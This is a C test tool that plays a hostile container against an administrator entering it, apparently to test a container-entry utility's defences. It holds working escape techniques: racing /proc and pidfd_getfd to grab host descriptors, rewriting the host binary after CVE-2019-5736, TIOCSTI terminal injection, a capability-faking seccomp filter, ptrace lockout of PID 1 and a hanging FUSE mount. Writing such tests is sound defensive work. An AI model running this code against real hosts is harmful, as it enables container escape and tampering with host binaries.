/* tests/tools/hostile: what a hostile container runs against the
 * administrator who enters it (tests/e2e/hostile.sh, tests/integration/hostile.sh).
 * Built static, it runs in a busybox container or a namespace of our making.
 * Every attack prints "ESCAPE: ..." when it gets something of the host's,
 * and a line about what it tried otherwise.
 *
 *   hostile race SECONDS
 *       Watches /proc for processes that are not its own (saying which it
 *       saw, by their command line), for SECONDS at most: it ends a second
 *       after the last process that appeared while it raced has gone (a
 *       slow host, an emulated one, gets the whole time to bring one in),
 *       and takes what
 *       it can of each: its /proc/PID/exe (an O_PATH handle, kept), each of
 *       its descriptors through /proc/PID/fd and through pidfd_getfd. A handle
 *       on the host's nskit binary (HOSTILE_EXE="DEV:INODE", the host's own
 *       stat of it) is an escape; so is any directory descriptor through
 *       which HOSTILE_MARKER (a file at the host's root, not in the
 *       container) can be read. With HOSTILE_REWRITE=1 it then tries to
 *       rewrite every exe it holds, as CVE-2019-5736 did once the binary
 *       stopped running (never set it for a binary the host needs, runc).
 *   hostile tiocsti FD TEXT
 *       Pushes TEXT into the input of the terminal on FD (TIOCSTI): the
 *       caller's shell reads it after the command ends, unless the command
 *       has a terminal of its own.
 *   hostile fake-caps [PROGRAM ARGS...]
 *       Becomes an init that lies about capabilities: sets no_new_privs,
 *       drops every capability, then installs a seccomp filter under which
 *       capset, capget and prctl(PR_CAPBSET_*) succeed without doing
 *       anything. A process that copies this filter before setting its own
 *       capabilities keeps whatever it had. Then runs PROGRAM (sleep).
 *   hostile two-filters PROGRAM ARGS...
 *       Installs two filters that both fail getppid, the older with EAGAIN,
 *       the newer with EINVAL (the newest one's answer wins), then runs
 *       PROGRAM: whoever copies the filters in the wrong order gets EAGAIN.
 *   hostile getppid
 *       Prints what getppid gives: "getppid: errno N" or "getppid: ok".
 *   hostile trace-init
 *       Traces the container's own init (PTRACE_SEIZE of PID 1, which a
 *       default container may do: same user, same capabilities), and keeps
 *       tracing it while it sleeps: whoever must trace the init to enter
 *       (to read its seccomp filters) is locked out.
 *   hostile fuse-hang DIR NAME...
 *       Mounts a FUSE file system of its own over DIR (the container's root
 *       may, in a user namespace of its own, with /dev/fuse) in which each
 *       NAME is a regular file that can be looked up, stat'ed and opened,
 *       but whose reads are never answered: whoever reads it waits until
 *       killed. Then serves it, in the foreground, forever.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/filter.h>
#include <linux/fuse.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

static dev_t exe_dev;
static ino_t exe_ino;
static const char *marker;

#define MAX_HELD 64
static int held[MAX_HELD];
static int held_count;
/* What was already reported of each pid, one byte each: each finding once. */
enum { SEEN = 1, GOT_EXE = 2, GOT_MARKER = 4 };
static unsigned char reported[4194305];

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

/* Reports what descriptor `fd` (taken from PID by `how`) gives us. */
static void examine(int fd, int pid, const char *how)
{
    struct stat st;
    if (fstat(fd, &st) != 0)
        return;
    if (exe_ino && st.st_dev == exe_dev && st.st_ino == exe_ino) {
        if (!(reported[pid] & GOT_EXE)) {
            reported[pid] |= GOT_EXE;
            printf("ESCAPE: %s of PID %d is the host's binary (HOSTILE_EXE)\n", how, pid);
            if (held_count < MAX_HELD)
                held[held_count++] = dup(fd);
        }
        return;
    }
    if (S_ISDIR(st.st_mode) && marker && !(reported[pid] & GOT_MARKER)) {
        char path[4096] = "";
        for (int i = 0; i < 40; ++i)
            strcat(path, "../");
        strcat(path, marker[0] == '/' ? marker + 1 : marker);
        int file = openat(fd, path, O_RDONLY);
        if (file >= 0) {
            char text[128] = "";
            ssize_t n = read(file, text, sizeof text - 1);
            text[n > 0 ? n : 0] = '\0';
            reported[pid] |= GOT_MARKER;
            printf("ESCAPE: read the host's %s through a directory (%s of PID %d): %s\n", marker, how, pid,
                   strtok(text, "\n") ? text : "");
            close(file);
        }
    }
}

static void take_from(int pid)
{
    char path[64];
    int first = !(reported[pid] & SEEN);
    reported[pid] |= SEEN;
    if (first) {
        /* Proof that the race was run: the command line of each process seen. */
        char cmdline[2048] = "";
        snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
        int fd = open(path, O_RDONLY);
        ssize_t n = fd >= 0 ? read(fd, cmdline, sizeof cmdline - 1) : 0;
        if (fd >= 0)
            close(fd);
        for (ssize_t i = 0; i < n; ++i)
            if (cmdline[i] == '\0')
                cmdline[i] = ' ';
        cmdline[n > 0 ? n : 0] = '\0';
        printf("saw PID %d: %s\n", pid, cmdline);
    }

    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int exe = open(path, O_PATH);
    if (exe >= 0) {
        char link[256] = "";
        snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
        ssize_t n = readlink(path, link, sizeof link - 1);
        link[n > 0 ? n : 0] = '\0';
        if (first)
            printf("got the exe of PID %d: %s\n", pid, link);
        examine(exe, pid, "/proc/PID/exe");
        close(exe);
    }

    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *dir = opendir(path);
    if (dir) {
        struct dirent *entry;
        while ((entry = readdir(dir)) != NULL) {
            if (entry->d_name[0] == '.')
                continue;
            char fd_path[300];
            snprintf(fd_path, sizeof fd_path, "/proc/%d/fd/%s", pid, entry->d_name);
            int fd = open(fd_path, O_PATH);
            if (fd < 0)
                continue;
            examine(fd, pid, "/proc/PID/fd");
            close(fd);
        }
        closedir(dir);
    }

    int pidfd = syscall(SYS_pidfd_open, pid, 0);
    if (pidfd >= 0) {
        for (int n = 0; n < 64; ++n) {
            int fd = syscall(SYS_pidfd_getfd, pidfd, n, 0);
            if (fd < 0)
                continue;
            if (first)
                printf("took descriptor %d of PID %d with pidfd_getfd\n", n, pid);
            examine(fd, pid, "pidfd_getfd");
            close(fd);
        }
        close(pidfd);
    }
}

static int race(double seconds)
{
    const char *exe = getenv("HOSTILE_EXE");
    unsigned long long dev, ino;
    if (exe && sscanf(exe, "%llu:%llu", &dev, &ino) == 2) {
        exe_dev = (dev_t)dev;
        exe_ino = (ino_t)ino;
    }
    marker = getenv("HOSTILE_MARKER");
    setvbuf(stdout, NULL, _IOLBF, 0);
    int self = getpid();
    printf("racing for %.1f s at most\n", seconds);
    /* Nothing else starts in the container while it races (race.sh), so a
     * process newer than the racer is the one entering it. */
    double last_new = 0;
    for (double end = now() + seconds; now() < end;) {
        DIR *proc = opendir("/proc");
        if (!proc)
            return 1;
        struct dirent *entry;
        while ((entry = readdir(proc)) != NULL) {
            int pid = atoi(entry->d_name);
            if (pid > 1 && pid != self && pid < 4194305) {
                if (pid > self)
                    last_new = now();
                take_from(pid);
            }
        }
        closedir(proc);
        if (last_new > 0 && now() - last_new > 1.0)
            break;
    }
    /* CVE-2019-5736: once nothing runs it, the binary can be opened for writing. */
    const char *rewrite = getenv("HOSTILE_REWRITE");
    for (int i = 0; rewrite && strcmp(rewrite, "1") == 0 && i < held_count; ++i) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
        int error = 0;
        int tries;
        for (tries = 0; tries < 1000; ++tries, usleep(10000)) {
            int w = open(path, O_WRONLY | O_TRUNC);
            error = errno;
            if (w >= 0) {
                static const char script[] = "#!/bin/sh\necho PWNED by a container\n";
                if (write(w, script, sizeof script - 1) > 0)
                    printf("ESCAPE: rewrote the host's binary (held since it ran; try %d)\n", tries);
                close(w);
                error = 0;
                break;
            }
        }
        if (error)
            printf("could not open the exe it held for writing: %s\n", strerror(error));
    }
    printf("race over\n");
    return 0;
}

static int tiocsti(int fd, const char *text)
{
    for (const char *c = text; *c; ++c)
        if (ioctl(fd, TIOCSTI, c) != 0) {
            printf("TIOCSTI on descriptor %d failed: %s\n", fd, strerror(errno));
            return 1;
        }
    printf("pushed %zu characters into the terminal on descriptor %d\n", strlen(text), fd);
    return 0;
}

#define LOAD_NR BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr))
#define LOAD_ARG0 BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0]))
#define PRETEND_SUCCESS BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0)
#define ALLOW BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)

static int fake_caps(char **program)
{
    /* Drop every capability: first the bounding set (needs CAP_SETPCAP), then the rest. */
    for (int cap = 0; cap <= 63; ++cap)
        prctl(PR_CAPBSET_DROP, cap, 0, 0, 0);
    struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct none[2] = {{0, 0, 0}, {0, 0, 0}};
    if (syscall(SYS_capset, &header, none) != 0)
        perror("capset");
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0)
        perror("no_new_privs");
    struct sock_filter lie[] = {
        LOAD_NR,
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_capset, 0, 1), PRETEND_SUCCESS,
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_capget, 0, 1), PRETEND_SUCCESS,
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_prctl, 0, 5),
        LOAD_ARG0,
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, PR_CAPBSET_DROP, 0, 1), PRETEND_SUCCESS,
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, PR_CAPBSET_READ, 0, 1), PRETEND_SUCCESS,
        ALLOW,
    };
    struct sock_fprog prog = {sizeof lie / sizeof lie[0], lie};
    if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog) != 0) {
        perror("seccomp");
        return 1;
    }
    if (program[0]) {
        execvp(program[0], program);
        perror(program[0]);
        return 127;
    }
    for (;;)
        pause();
}

static int install_errno_filter(int nr, int error)
{
    struct sock_filter fail[] = {
        LOAD_NR,
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, nr, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | error),
        ALLOW,
    };
    struct sock_fprog prog = {sizeof fail / sizeof fail[0], fail};
    return (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog);
}

static int two_filters(char **program)
{
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0 || install_errno_filter(__NR_getppid, EAGAIN) != 0 ||
        install_errno_filter(__NR_getppid, EINVAL) != 0) {
        perror("seccomp");
        return 1;
    }
    execvp(program[0], program);
    perror(program[0]);
    return 127;
}

static int trace_init(void)
{
    if (ptrace(PTRACE_SEIZE, 1, 0, 0) != 0) {
        perror("PTRACE_SEIZE 1");
        return 1;
    }
    printf("tracing PID 1\n");
    fflush(stdout);
    for (;;)
        pause();
}

/* One reply to a FUSE request: a header, then `size` bytes of `body`. */
static void fuse_reply(int fuse, uint64_t unique, int error, const void *body, size_t size)
{
    char buffer[sizeof(struct fuse_out_header) + 256];
    struct fuse_out_header header = {sizeof header + size, -error, unique};
    memcpy(buffer, &header, sizeof header);
    if (size)
        memcpy(buffer + sizeof header, body, size);
    if (write(fuse, buffer, sizeof header + size) < 0 && errno != ENOENT)
        perror("fuse reply");
}

static void fuse_attr_of(uint64_t node, struct fuse_attr *attr)
{
    memset(attr, 0, sizeof *attr);
    attr->ino = node;
    attr->mode = node == FUSE_ROOT_ID ? S_IFDIR | 0755 : S_IFREG | 0644;
    attr->nlink = 1;
    attr->size = node == FUSE_ROOT_ID ? 0 : 4096;
    attr->blksize = 4096;
}

static int fuse_hang(const char *dir, char **names, int count)
{
    int fuse = open("/dev/fuse", O_RDWR);
    char options[128];
    if (fuse < 0) {
        perror("/dev/fuse");
        return 1;
    }
    snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", fuse);
    if (mount("hostile", dir, "fuse", MS_NOSUID | MS_NODEV, options) != 0) {
        perror("mount fuse");
        return 1;
    }
    printf("fuse-hang: serving %s\n", dir);
    fflush(stdout);
    static char request[FUSE_MIN_READ_BUFFER + 65536];
    for (;;) {
        ssize_t n = read(fuse, request, sizeof request);
        if (n < 0 && (errno == EINTR || errno == ENOENT))
            continue;
        if (n < (ssize_t)sizeof(struct fuse_in_header))
            return n < 0 ? 1 : 0;
        struct fuse_in_header *in = (struct fuse_in_header *)request;
        char *body = request + sizeof *in;
        switch (in->opcode) {
        case FUSE_INIT: {
            struct fuse_init_out out = {0};
            out.major = FUSE_KERNEL_VERSION;
            out.minor = FUSE_KERNEL_MINOR_VERSION;
            out.max_readahead = 65536;
            out.max_write = 65536;
            fuse_reply(fuse, in->unique, 0, &out, sizeof out);
            break;
        }
        case FUSE_LOOKUP: {
            struct fuse_entry_out out = {0};
            int found = 0;
            for (int i = 0; i < count && !found; i++)
                if (in->nodeid == FUSE_ROOT_ID && strcmp(body, names[i]) == 0)
                    found = i + 2;
            if (!found) {
                fuse_reply(fuse, in->unique, ENOENT, NULL, 0);
                break;
            }
            out.nodeid = (uint64_t)found;
            fuse_attr_of(out.nodeid, &out.attr);
            fuse_reply(fuse, in->unique, 0, &out, sizeof out);
            break;
        }
        case FUSE_GETATTR: {
            struct fuse_attr_out out = {0};
            fuse_attr_of(in->nodeid, &out.attr);
            fuse_reply(fuse, in->unique, 0, &out, sizeof out);
            break;
        }
        case FUSE_OPEN:
        case FUSE_OPENDIR: {
            struct fuse_open_out out = {0};
            fuse_reply(fuse, in->unique, 0, &out, sizeof out);
            break;
        }
        case FUSE_READ:  /* never answered: the reader waits until it is killed */
        case FUSE_FORGET:
        case FUSE_BATCH_FORGET:
        case FUSE_INTERRUPT:
            break;
        case FUSE_READDIR:
        case FUSE_RELEASE:
        case FUSE_RELEASEDIR:
        case FUSE_FLUSH:
        case FUSE_ACCESS:
            fuse_reply(fuse, in->unique, 0, NULL, 0);
            break;
        default:
            fuse_reply(fuse, in->unique, ENOSYS, NULL, 0);
        }
    }
}

int main(int argc, char **argv)
{
    if (argc >= 3 && strcmp(argv[1], "race") == 0)
        return race(atof(argv[2]));
    if (argc == 4 && strcmp(argv[1], "tiocsti") == 0)
        return tiocsti(atoi(argv[2]), argv[3]);
    if (argc >= 2 && strcmp(argv[1], "fake-caps") == 0)
        return fake_caps(argv + 2);
    if (argc >= 3 && strcmp(argv[1], "two-filters") == 0)
        return two_filters(argv + 2);
    if (argc == 2 && strcmp(argv[1], "getppid") == 0) {
        long r = syscall(SYS_getppid);
        if (r < 0)
            printf("getppid: errno %d\n", errno);
        else
            printf("getppid: ok\n");
        return 0;
    }
    if (argc == 2 && strcmp(argv[1], "trace-init") == 0)
        return trace_init();
    if (argc >= 4 && strcmp(argv[1], "fuse-hang") == 0)
        return fuse_hang(argv[2], argv + 3, argc - 3);
    fprintf(stderr, "usage: hostile race SECONDS | tiocsti FD TEXT | fake-caps [PROGRAM ARGS...] | "
                    "two-filters PROGRAM ARGS... | getppid | trace-init | fuse-hang DIR NAME...\n");
    return 2;
}
